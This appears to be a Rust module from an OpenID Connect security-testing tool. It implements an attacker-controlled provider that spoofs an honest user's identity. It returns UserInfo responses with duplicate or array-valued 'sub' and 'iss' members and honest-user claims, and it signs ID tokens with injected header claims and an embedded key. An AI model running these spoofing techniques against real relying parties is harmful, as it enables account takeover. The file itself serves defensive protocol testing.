use async_trait::async_trait;
use http::StatusCode;
use http::header::CONTENT_TYPE;
use serde_json::{Map, Value, json};

use crate::actor::errors::ActorError;
use crate::actor::keys::{self, KeyKind};
use crate::actor::types::{ActorRequest, ActorResponse, Endpoint};
use crate::context::keys::USERINFO_REQUEST_RECEIVED;
use crate::context::keys::params::{
    TOKEN_HEADER_ADD_CLAIMS, TOKEN_HEADER_HONEST_EMAIL, TOKEN_HEADER_HONEST_ISS,
    TOKEN_HEADER_HONEST_SUB, TOKEN_HEADER_SIGNING_KEY, USERINFO_EVIL_ISS, USERINFO_EVIL_SUB,
    USERINFO_HONEST_EMAIL, USERINFO_HONEST_ISS, USERINFO_HONEST_NAME, USERINFO_HONEST_SUB,
    USERINFO_HONEST_USERNAME, USERINFO_SUB_AS_ARRAY,
};
use crate::types::Role;

use super::server::{OpScenario, OpServer, user_identity};

/// Mixes the honest user's identifiers into the evil OP's UserInfo
/// response and ID token header.
pub struct UserInfoIdSpoofingOp;

impl UserInfoIdSpoofingOp {
    /// Members of the UserInfo document in order. Names may repeat, which a
    /// JSON object cannot express.
    fn userinfo_members(op: &OpServer) -> Vec<(&'static str, Value)> {
        let params = &op.env().params;
        let honest = user_identity(Role::Honest);
        let evil = user_identity(Role::Evil);
        let pick = |param: &str, name: &str| {
            if params.bool(param) {
                honest[name].clone()
            } else {
                evil[name].clone()
            }
        };

        let mut subs = Vec::new();
        if params.bool(USERINFO_HONEST_SUB) {
            subs.push(honest["sub"].clone());
        }
        if params.bool(USERINFO_EVIL_SUB) {
            subs.push(evil["sub"].clone());
        }
        let mut members: Vec<(&'static str, Value)> = if subs.is_empty() {
            vec![("sub", evil["sub"].clone())]
        } else if params.bool(USERINFO_SUB_AS_ARRAY) {
            vec![("sub", Value::Array(subs))]
        } else {
            subs.into_iter().map(|sub| ("sub", sub)).collect()
        };

        if params.bool(USERINFO_HONEST_ISS) {
            members.push(("iss", json!(op.issuer(Role::Honest))));
        }
        if params.bool(USERINFO_EVIL_ISS) {
            members.push(("iss", json!(op.issuer(Role::Evil))));
        }
        members.push(("name", pick(USERINFO_HONEST_NAME, "name")));
        members.push((
            "preferred_username",
            pick(USERINFO_HONEST_USERNAME, "preferred_username"),
        ));
        members.push(("email", pick(USERINFO_HONEST_EMAIL, "email")));
        members
    }

    fn header_params_set(op: &OpServer) -> bool {
        let params = &op.env().params;
        [
            TOKEN_HEADER_ADD_CLAIMS,
            TOKEN_HEADER_HONEST_SUB,
            TOKEN_HEADER_HONEST_ISS,
            TOKEN_HEADER_HONEST_EMAIL,
            TOKEN_HEADER_SIGNING_KEY,
        ]
        .iter()
        .any(|name| params.bool(name))
    }
}

/// Serialize members verbatim, keeping duplicates.
fn json_with_duplicates(members: &[(&str, Value)]) -> String {
    let body: Vec<String> = members
        .iter()
        .map(|(name, value)| format!("{}:{}", json!(name), value))
        .collect();
    format!("{{{}}}", body.join(","))
}

#[async_trait]
impl OpScenario for UserInfoIdSpoofingOp {
    async fn intercept(
        &self,
        op: &OpServer,
        endpoint: Endpoint,
        request: &ActorRequest,
    ) -> Result<Option<ActorResponse>, ActorError> {
        if endpoint != Endpoint::UserInfo || request.bearer_token().is_none() {
            return Ok(None);
        }
        op.env().step.insert(USERINFO_REQUEST_RECEIVED, op.role());
        let body = json_with_duplicates(&Self::userinfo_members(op));
        op.env()
            .logger
            .log_code_block("Returning manipulated UserInfo Response:", &body);
        let mut response = ActorResponse::new(StatusCode::OK).with_header(CONTENT_TYPE, "application/json");
        response.body = body.into_bytes();
        Ok(Some(response))
    }

    fn sign_id_token(&self, op: &OpServer, claims: &Value) -> Result<Option<String>, ActorError> {
        if !Self::header_params_set(op) {
            return Ok(None);
        }
        let params = &op.env().params;
        let key = keys::signing_key(KeyKind::from(op.role()))?;
        let honest = user_identity(Role::Honest);

        let mut header = Map::new();
        header.insert("alg".to_string(), json!("EdDSA"));
        header.insert("typ".to_string(), json!("JWT"));
        header.insert("kid".to_string(), json!(key.kid()));
        if params.bool(TOKEN_HEADER_ADD_CLAIMS) {
            for name in ["sub", "iss", "email"] {
                if let Some(value) = claims.get(name) {
                    header.insert(name.to_string(), value.clone());
                }
            }
        }
        if params.bool(TOKEN_HEADER_HONEST_SUB) {
            header.insert("sub".to_string(), honest["sub"].clone());
        }
        if params.bool(TOKEN_HEADER_HONEST_ISS) {
            header.insert("iss".to_string(), json!(op.issuer(Role::Honest)));
        }
        if params.bool(TOKEN_HEADER_HONEST_EMAIL) {
            header.insert("email".to_string(), honest["email"].clone());
        }
        if params.bool(TOKEN_HEADER_SIGNING_KEY) {
            header.insert("jwk".to_string(), key.public_jwk());
        }
        key.sign_with_header(&Value::Object(header), claims).map(Some)
    }
}
